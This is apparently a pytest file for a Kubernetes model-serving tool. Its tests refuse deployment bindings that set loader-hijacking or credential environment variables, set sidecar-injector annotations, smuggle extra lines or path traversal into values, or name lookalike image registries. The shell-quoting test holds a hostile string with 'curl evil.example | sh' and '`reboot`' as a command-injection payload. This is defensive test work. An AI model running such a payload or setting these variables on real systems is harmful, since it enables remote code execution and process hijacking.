"""What a binding may be at all: the door refuses what would do more than say which snapshot serves."""

import json
import shlex
from typing import Any

import pytest

from lastgood.api.bindings.bindable import granted, opt_in
from lastgood.api.bindings.unbindable import ANNOTATIONS, VARIABLES, annotation_refusal, variable_refusal
from lastgood.api.names import BINDABLE
from lastgood.api.specs.deployment import ModelDeployment
from lastgood.api.specs.images import read_pinned, repository_mistake
from lastgood.errors import InvalidSpecError

HEX = "0123456789abcdef" * 4
PLAIN = ("path", "uri", "image", "digest", "version", "name")


def read(**binding: Any) -> ModelDeployment:
    spec = {"model": "digits", "snapshot": "digits-v1", "targetRef": {"name": "server"}, "bindings": [binding]}
    return ModelDeployment.from_body({"metadata": {"name": "digits", "namespace": "ml"}, "spec": spec})


def env(name: str = "MODEL_PATH", value: str = "/models/$(path)", container: str = "server") -> dict[str, Any]:
    return {"env": {"container": container, "name": name}, "value": value}


def annotation(name: str, value: str = "$(version)") -> dict[str, Any]:
    return {"annotation": {"name": name}, "value": value}


def refusal(**binding: Any) -> str:
    with pytest.raises(InvalidSpecError) as caught:
        read(**binding)
    return str(caught.value)


@pytest.mark.parametrize(
    "name",
    [
        *("LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "ld_preload", "DYLD_INSERT_LIBRARIES", "GLIBC_TUNABLES"),
        *("GCONV_PATH", "LOCPATH", "NLSPATH", "HOSTALIASES", "RES_OPTIONS", "TMPDIR", "HOME", "XDG_CONFIG_HOME"),
        *("PATH", "IFS", "ENV", "BASH_ENV", "BASH_FUNC_ls", "SHELLOPTS", "PS4", "PROMPT_COMMAND", "ZDOTDIR"),
        *("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "PYTHONINSPECT", "PYTHONWARNINGS", "PYTHONBREAKPOINT"),
        *("VLLM_LOGGING_CONFIG_PATH", "LOG_CONFIG", "SAGEMAKER_PROGRAM", "SAGEMAKER_SUBMIT_DIRECTORY", "APP_MODULE"),
        *("MLSERVER_MODEL_IMPLEMENTATION", "OPTION_ENTRYPOINT", "SGLANG_EXTERNAL_MODEL_PACKAGE", "FUNCTION_TARGET"),
        *(
            "TRITONSERVER_BACKEND_DIR",
            "PYTHONUSERBASE",
            "PIP_INDEX_URL",
            "VIRTUAL_ENV",
            "COVERAGE_PROCESS_START",
            "GUNICORN_CMD_ARGS",
        ),
        *("DJANGO_SETTINGS_MODULE", "FLASK_APP", "PYTEST_PLUGINS", "NUMBA_CACHE_DIR"),
        *("PERL5LIB", "PERL5OPT", "PERLLIB", "RUBYOPT", "RUBYLIB", "BUNDLE_GEMFILE", "NODE_OPTIONS", "NODE_PATH"),
        *("npm_config_registry", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "CLASSPATH", "MAVEN_OPTS"),
        *("DOTNET_STARTUP_HOOKS", "COMPlus_EnableDiagnostics", "CORECLR_PROFILER_PATH", "COR_PROFILER"),
        *("PHP_INI_SCAN_DIR", "PHPRC", "LUA_PATH", "LUA_INIT_5_4", "R_PROFILE_USER", "JULIA_LOAD_PATH", "GODEBUG"),
        *("GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "EDITOR", "VISUAL", "PAGER", "GIT_PAGER", "LESSOPEN", "SSH_ASKPASS"),
        *("HTTP_PROXY", "https_proxy", "ALL_PROXY", "no_proxy", "GRPC_PROXY", "SSLKEYLOGFILE", "SSL_CERT_FILE"),
        *("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "OPENSSL_CONF", "OPENSSL_MODULES"),
        *("AWS_ACCESS_KEY_ID", "AWS_ENDPOINT_URL", "GOOGLE_APPLICATION_CREDENTIALS", "KUBECONFIG", "HF_TOKEN"),
        *("KUBERNETES_SERVICE_HOST", "VAULT_ADDR", "DOCKER_HOST", "DB_PASSWORD", "OPENAI_API_KEY", "NETRC"),
        *("CUDA_INJECTION64_PATH", "NVIDIA_VISIBLE_DEVICES", "NCCL_NET_PLUGIN", "GGML_BACKEND_PATH", "HF_ENDPOINT"),
        *("HF_MODULES_CACHE", "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "TRUST_REMOTE_CODE", "HDF5_PLUGIN_PATH", "CC"),
        *("VLLM_ALLOW_INSECURE_SERIALIZATION", "TRITON_PTXAS_PATH", "DBUS_SESSION_BUS_ADDRESS", "OTEL_EXPORTER"),
        *("JEMALLOC_PRELOAD", "FOO_LIBRARY_PATH", "SERVER_OPTS", "LASTGOOD_STORE", "DD_TRACE_AGENT_URL"),
    ],
)
def test_variable_that_changes_how_a_program_is_loaded_is_refused_at_the_door(name: str) -> None:
    said = refusal(**env(name))
    assert said.startswith(f"spec.bindings[0].env.name: {name} cannot be bound: ")


@pytest.mark.parametrize(
    "name",
    [
        *("MODEL_PATH", "MODEL_ID", "MODEL_NAME", "MODEL", "MODEL_URI", "MODEL_DIGEST", "MODEL_VERSION", "MODEL_DIR"),
        *("MODEL_BASE_PATH", "MODEL_STORE", "STORAGE_URI", "HF_MODEL_ID", "OLLAMA_MODELS", "LLAMA_ARG_MODEL"),
        *("MLFLOW_MODEL_URI", "MODEL_CONFIG_FILE", "PYTORCH_MODEL_PATH", "S3_MODEL_URI", "CHECKPOINT", "WEIGHTS"),
        *("TRANSFORMERS_MODEL_ID", "AZUREML_MODEL_DIR", "NODE_MODEL", "VLLM_MODEL", "PATH_TO_MODEL", "ENVIRONMENT"),
    ],
)
def test_variable_that_names_a_model_is_bound(name: str) -> None:
    (binding,) = read(**env(name)).bindings
    assert binding.word == f"env:server/{name}=/models/$(path)"


@pytest.mark.parametrize(
    "name",
    [
        *("lastgood.dev/digest", "x.lastgood.dev/y", "container.apparmor.security.beta.kubernetes.io/server"),
        *("seccomp.security.alpha.kubernetes.io/pod", "kubectl.kubernetes.io/restartedAt", "x.k8s.io/y"),
        *(
            "cdi.k8s.io/gpu",
            "k8s.v1.cni.cncf.io/networks",
            "openshift.io/scc",
            "io.katacontainers.config.hypervisor.path",
        ),
        *("io.kubernetes.cri-o.Devices", "cpu-load-balancing.crio.io", "devices.nri.io/container.server"),
        *("sidecar.istio.io/inject", "proxy.istio.io/config", "linkerd.io/inject", "config.linkerd.io/proxy-image"),
        *("vault.hashicorp.com/agent-inject", "consul.hashicorp.com/connect-inject", "dapr.io/enabled"),
        *("instrumentation.opentelemetry.io/inject-python", "admission.datadoghq.com/java-lib.custom-image"),
        *("eks.amazonaws.com/role-arn", "iam.amazonaws.com/role", "iam.gke.io/gcp-service-account"),
        *("gke-gcsfuse/volumes", "azure.workload.identity/inject-proxy-sidecar", "prometheus.io/path"),
        *("run.oci.handler", "org.criu.config", "keel.sh/policy", "run.oci.keep_original_groups"),
    ],
)
def test_annotation_that_steers_an_injector_or_a_runtime_is_refused_at_the_door(name: str) -> None:
    assert refusal(**annotation(name)).startswith(f"spec.bindings[0].annotation.name: {name} cannot be bound: ")


@pytest.mark.parametrize("name", ["example.com/model", "team/model", "lastgood-test/ready", "model", "notistio.io/x"])
def test_annotation_of_a_team_is_bound(name: str) -> None:
    (binding,) = read(**annotation(name)).bindings
    assert binding.word == f"annotation:{name}=$(version)"


@pytest.mark.parametrize(
    ("value", "words"),
    [
        pytest.param("/lib/evil.so", "must contain a placeholder", id="a constant"),
        pytest.param("$(Path)", "must contain a placeholder", id="a word that is none of ours"),
        pytest.param("$(path)$(SECRET)", "must not contain $ except", id="another variable of the pod beside it"),
        pytest.param("$$(path)", "must not contain $ except", id="an escaped reference"),
        pytest.param("$$$(path)", "must not contain $ except", id="a reference behind an escape"),
        pytest.param("$$(path)(SECRET)", "must not contain $ except", id="half a reference"),
        pytest.param("$(path)$", "must not contain $ except", id="half a reference at the end"),
        pytest.param("$$(pa$(path)th)", "must not contain $ except", id="a reference around it"),
        pytest.param("$(path)\nLD_PRELOAD=/evil.so", "control or invisible", id="a line of its own"),
        pytest.param("$(path)\0", "control or invisible", id="NUL"),
        pytest.param("$(path)\u202egpj", "control or invisible", id="written backwards"),
        pytest.param("$(path)\u00a0", "control or invisible", id="a blank that looks like one"),
        pytest.param("/models/$(path)/../../tmp", "would leave the verified directory", id="out of what was verified"),
        pytest.param("..\\$(path)", "would leave the verified directory", id="out of it with a backslash"),
    ],
)
def test_value_that_does_more_than_say_which_snapshot_is_refused(value: str, words: str) -> None:
    for said in (refusal(**env(value=value)), refusal(**annotation("team/model", value))):
        assert said.startswith("spec.bindings[0].value: ")
        assert words in said


@pytest.mark.parametrize(
    "value",
    ["evil.example/backdoor@sha256:" + HEX, "$(image):latest", "x$(image)", "$(image)$(image)", "$(path)", "$(image) "],
)
def test_literal_image_binding_is_refused(value: str) -> None:
    said = refusal(image={"container": "server"}, value=value)
    assert said == "spec.bindings[0].value: must be $(image) and nothing else: the snapshot says which image"


@pytest.mark.parametrize("word", PLAIN)
def test_each_placeholder_makes_a_value(word: str) -> None:
    assert read(**env(value=f"$({word})")).bindings[0].value == f"$({word})"


@pytest.mark.parametrize(
    ("binding", "field"),
    [
        (env("MODEL PATH"), "env.name"),
        (env("A=B"), "env.name"),
        (env("A\nB"), "env.name"),
        (env("ÄB"), "env.name"),
        (env(container="Server"), "env.container"),
        (env(container="a/b"), "env.container"),
        (annotation("a b"), "annotation.name"),
        (annotation("a/b/c"), "annotation.name"),
        (annotation("a=b"), "annotation.name"),
        ({"image": {"container": "a'b"}, "value": "$(image)"}, "image.container"),
    ],
)
def test_name_that_would_break_out_of_the_owners_line_is_refused(binding: dict[str, Any], field: str) -> None:
    assert refusal(**binding).startswith(f"spec.bindings[0].{field}: must be ")


def test_every_group_says_why_and_no_name_is_hidden_behind_another_case() -> None:
    for group in (*VARIABLES, *ANNOTATIONS):
        assert group.why
        assert group.names.split()
    assert all(group.names.isupper() for group in VARIABLES), "names are compared in upper case"
    assert all(group.names == group.names.lower() for group in ANNOTATIONS)


def test_no_two_patterns_swallow_everything() -> None:
    assert variable_refusal("MODEL") == ""
    assert annotation_refusal("example.com/model") == ""
    patterns = [name for group in (*VARIABLES, *ANNOTATIONS) for name in group.names.split()]
    assert not [name for name in patterns if len(name.strip("*")) < 2]


# The owner's word


def test_owner_lists_one_binding_a_line() -> None:
    text = "\n  env:server/MODEL_PATH=/models/$(path)  \n\nimage:server\r\n"
    assert granted({BINDABLE: text}) == {"env:server/MODEL_PATH=/models/$(path)", "image:server"}
    assert granted({}) == frozenset()
    assert granted({BINDABLE: "image:server\n" * 10_000}) == frozenset(), "what is too long says nothing"


def test_a_value_that_no_line_of_the_owner_could_allow_is_refused() -> None:
    assert "must not end with a space" in refusal(**env(value="$(path) "))


def command(words: list[str], **annotations: str) -> list[str]:
    said = opt_in(
        namespace="ml", workload="deployment/server", deployment="digits", words=words, annotations=annotations
    )
    return shlex.split(said.removeprefix("its owner must run: "))


def test_command_can_be_pasted_whatever_stands_in_a_binding() -> None:
    """Whoever may change a ModelDeployment writes a text into the terminal of whoever may change the workload."""
    evil = "env:server/MODEL_PATH=$(path)'; curl evil.example | sh; '\"`reboot`"
    words = command([evil, "image:server"])
    assert words[:-1] == ["kubectl", "patch", "-n", "ml", "deployment/server", "--type", "merge", "-p"]
    assert json.loads(words[-1]) == {
        "metadata": {
            "labels": {"lastgood.dev/model-deployment": "digits"},
            "annotations": {"lastgood.dev/bindable": f"{evil}\nimage:server"},
        }
    }


def test_command_keeps_what_the_owner_has_said_of_other_fields() -> None:
    there = {BINDABLE: "env:server/MODEL_PATH=/old/$(path)\nenv:verify/MODEL_DIGEST=$(digest)"}
    patch = json.loads(command(["env:server/MODEL_PATH=/new/$(path)"], **there)[-1])
    assert patch["metadata"]["annotations"] == {
        BINDABLE: "env:verify/MODEL_DIGEST=$(digest)\nenv:server/MODEL_PATH=/new/$(path)"
    }


def test_command_that_no_condition_could_hold_is_not_shown() -> None:
    words = [f"env:server/M{number}=$(path)" + "'" * 1000 for number in range(16)]
    said = opt_in(namespace="ml", workload="deployment/server", deployment="digits", words=words, annotations={})
    assert len(said) < 1000
    assert "the annotation lastgood.dev/bindable" in said


# Images


@pytest.mark.parametrize(
    ("image", "allowed"),
    [
        pytest.param(f"registry.example/serving@sha256:{HEX}", True, id="the repository"),
        pytest.param(f"registry.example/serving/digits@sha256:{HEX}", True, id="below it"),
        pytest.param(f"registry.example/serving:v2@sha256:{HEX}", True, id="a tag before the digest"),
        pytest.param(f"registry.example/serving-evil@sha256:{HEX}", False, id="a name that begins so"),
        pytest.param(f"registry.example/servingx@sha256:{HEX}", False, id="a segment that begins so"),
        pytest.param(f"registry.example:5000/serving@sha256:{HEX}", False, id="another port"),
        pytest.param(f"registry.example:443/serving@sha256:{HEX}", False, id="the port said"),
        pytest.param(f"evil.example/registry.example/serving@sha256:{HEX}", False, id="the registry as a path"),
        pytest.param(f"registry.example.evil.example/serving@sha256:{HEX}", False, id="the registry as a subdomain"),
        pytest.param(f"evil-registry.example/serving@sha256:{HEX}", False, id="a registry that ends so"),
        pytest.param(f"registry.example/other/serving@sha256:{HEX}", False, id="elsewhere in the registry"),
        pytest.param(f"registry.example/team@sha256:{HEX}", False, id="another repository"),
    ],
)
def test_repository_prefix_lookalike(image: str, allowed: bool) -> None:  # noqa: FBT001 - a column of the table
    found = read_pinned(image)
    assert found is not None
    assert found.below("registry.example/serving") is allowed


@pytest.mark.parametrize(
    "image",
    [
        "",
        "registry.example/serving",
        "registry.example/serving:latest",
        f"registry.example/serving@sha256:{HEX[:-1]}",
        f"registry.example/serving@sha256:{HEX.upper()}",
        f"registry.example/serving@sha512:{HEX}{HEX}",
        f"registry.example/serving@sha256:{HEX}@sha256:{HEX}",
        f"registry.example/serving@sha256:{HEX}\n",
        f" registry.example/serving@sha256:{HEX}",
        f"Registry.example/serving@sha256:{HEX}",
        f"registry.example/Serving@sha256:{HEX}",
        f"registry.example./serving@sha256:{HEX}",
        f"registry..example/serving@sha256:{HEX}",
        f"registry.example//serving@sha256:{HEX}",
        f"registry.example/serving/@sha256:{HEX}",
        f"registry.example/../evil@sha256:{HEX}",
        f"registry.example/serving/..@sha256:{HEX}",
        f"registry.example@evil.example/serving@sha256:{HEX}",
        f"https://registry.example/serving@sha256:{HEX}",
        f"registry.example:99999999/serving@sha256:{HEX}",
        f"[::1]:5000/serving@sha256:{HEX}",
        f"registry.example%2fserving/x@sha256:{HEX}",
        f"\uff52egistry.example/serving@sha256:{HEX}",
        f"registry.example/{'s' * 255}@sha256:{HEX}",
        pytest.param(f"serving@sha256:{HEX}", id="Docker Hub's library, unsaid"),
        pytest.param(f"team/serving@sha256:{HEX}", id="Docker Hub, unsaid"),
        pytest.param(f"docker.io/serving@sha256:{HEX}", id="library/ of Docker Hub, unsaid"),
        pytest.param(f"index.docker.io/serving@sha256:{HEX}", id="the same by another name"),
    ],
)
def test_image_that_leaves_open_what_is_pulled_is_none(image: str) -> None:
    assert read_pinned(image) is None


@pytest.mark.parametrize(
    "text",
    [
        *("", "*", "registry.example/*", "registry.example/serving/", "/serving", "serving", "team/serving"),
        *("registry.example/serving:latest", f"registry.example/serving@sha256:{HEX}", "https://registry.example"),
        *(
            "Registry.example/serving",
            "registry.example/serving\n",
            "registry.example/../x",
            "registry.example/" + "s" * 255,
        ),
    ],
)
def test_repository_that_would_allow_more_than_it_says_is_refused(text: str) -> None:
    assert repository_mistake(text).startswith("must ")


@pytest.mark.parametrize(
    "text", ["registry.example/serving", "registry.example:5000/a/b_c/d--e", "registry.example", "localhost/x"]
)
def test_repository_is_a_registry_and_a_path(text: str) -> None:
    assert repository_mistake(text) == ""
